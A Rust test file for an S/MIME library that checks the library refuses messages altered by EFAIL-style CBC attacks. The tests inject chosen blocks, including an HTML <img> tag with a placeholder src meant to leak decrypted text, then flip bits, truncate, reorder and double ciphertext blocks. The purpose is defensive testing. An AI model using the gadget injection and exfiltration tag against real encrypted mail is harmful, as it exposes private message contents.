//! Attack 2, EFAIL's CBC gadgets, truncation and reordering: without a valid signature over the
//! whole, nothing of CBC content is released, and the answer is always the same.

use aws_lc_rs::cipher::{AES_256, DecryptionContext, PaddedBlockDecryptingKey, UnboundCipherKey};
use aws_lc_rs::iv::FixedLength;
use liaison_smime::{Refusal, SignatureVerdict};

use crate::forge::cbc::{BLOCK, Gadget, flip, inject};
use crate::forge::{Stage, cms, entity, mail};

/// The first block of every entity here.
const KNOWN: [u8; BLOCK] = *b"Content-Type: mu";

fn envelope(stage: &Stage, iv: [u8; BLOCK], ciphertext: &[u8]) -> Vec<u8> {
    let recipient = stage.recipient(&cms::KEY_256);
    mail(&cms::enveloped(
        &[recipient],
        cms::cbc(cms::AES256_CBC, &iv),
        ciphertext,
    ))
}

/// What a careless reader would see.
fn careless(gadget: &Gadget) -> Vec<u8> {
    let key = UnboundCipherKey::new(&AES_256, &cms::KEY_256).unwrap();
    let mut octets = gadget.ciphertext.clone();
    PaddedBlockDecryptingKey::cbc_pkcs7(key)
        .unwrap()
        .decrypt(
            &mut octets,
            DecryptionContext::Iv128(FixedLength::from(gadget.iv)),
        )
        .unwrap()
        .to_vec()
}

#[test]
fn an_injected_image_is_not_shown() {
    let stage = Stage::new();
    let ciphertext = cms::encrypt_cbc(&cms::KEY_256, &stage.signed_entity());
    let honest = stage.open(&envelope(&stage, cms::IV, &ciphertext)).unwrap();
    assert!(matches!(honest.signature(), SignatureVerdict::Valid(_)));
    let chosen = [
        *b"Content-Type: te",
        *b"xt/html\r\nX: aaaa",
        *b"\r\n\r\n<img ignor=\"",
        *b"\" src=\"http:a/??",
    ];
    let gadget = inject(cms::IV, &ciphertext, KNOWN, &chosen);
    let seen = careless(&gadget);
    for (i, block) in chosen.iter().enumerate() {
        assert_eq!(&seen[2 * i * BLOCK..][..BLOCK], block, "the gadget works");
    }
    let answer = stage.open(&envelope(&stage, gadget.iv, &gadget.ciphertext));
    assert_eq!(answer.err(), Some(Refusal::CannotOpen));
}

#[test]
fn flipped_truncated_and_moved_blocks_are_one_refusal() {
    let stage = Stage::new();
    let ciphertext = cms::encrypt_cbc(&cms::KEY_256, &stage.signed_entity());
    let refused = |iv: [u8; BLOCK], octets: &[u8], why: &str| {
        let answer = stage.open(&envelope(&stage, iv, octets));
        assert_eq!(answer.err(), Some(Refusal::CannotOpen), "{why}");
    };
    // multipart/signed becomes another type, so that the signature is not looked at.
    let mut iv = cms::IV;
    let mut octets = ciphertext.clone();
    let mask: [u8; BLOCK] = std::array::from_fn(|i| KNOWN[i] ^ b"Content-Type: xu"[i]);
    flip(&mut iv, &mut octets, 0, mask);
    refused(iv, &octets, "another type");
    for blocks in [0, 1, 2, 7, ciphertext.len() / BLOCK - 1] {
        refused(cms::IV, &ciphertext[..blocks * BLOCK], "truncated");
    }
    refused(cms::IV, &ciphertext[..ciphertext.len() - 1], "half a block");
    refused(cms::IV, &ciphertext[BLOCK..], "without its first block");
    let mut moved = ciphertext.clone();
    moved[5 * BLOCK..].rotate_left(BLOCK);
    refused(cms::IV, &moved, "moved");
    let mut doubled = ciphertext[..6 * BLOCK].to_vec();
    doubled.extend_from_slice(&ciphertext);
    refused(cms::IV, &doubled, "doubled");
    let mut last = ciphertext.clone();
    *last.last_mut().unwrap() ^= 1;
    refused(cms::IV, &last, "padding");
}

#[test]
fn without_a_valid_signature_inside_nothing_is_released() {
    let stage = Stage::new();
    let other = stage
        .root
        .person("autre@hopital.test", &crate::forge::pki::Keys::p256(), 66);
    let stranger = Stage::new().doctor;
    let content = entity("x");
    let by = |person| {
        let object = cms::honest_signature(person, &content, false);
        cms::multipart_signed(&content, &object)
    };
    let mut appended = stage.signed_entity();
    appended.extend_from_slice(b"et ceci\r\n--limite--\r\n");
    for (plain, why) in [
        (entity("sans signature"), "unsigned"),
        (b"pas du MIME".to_vec(), "not MIME"),
        (Vec::new(), "empty"),
        (by(&other), "signed by another address"),
        (by(&stranger), "signed by a stranger"),
        (
            cms::entity(&cms::signed(cms::DATA, Some(&content), &[], &[])),
            "no signer",
        ),
    ] {
        let ciphertext = cms::encrypt_cbc(&cms::KEY_256, &plain);
        let answer = stage.open(&envelope(&stage, cms::IV, &ciphertext));
        assert_eq!(answer.err(), Some(Refusal::CannotOpen), "{why}");
    }
    // What follows the closing delimiter is not shown.
    let ciphertext = cms::encrypt_cbc(&cms::KEY_256, &appended);
    if let Ok(opened) = stage.open(&envelope(&stage, cms::IV, &ciphertext)) {
        assert!(!crate::forge::readable(opened).contains("et ceci"));
    }
}
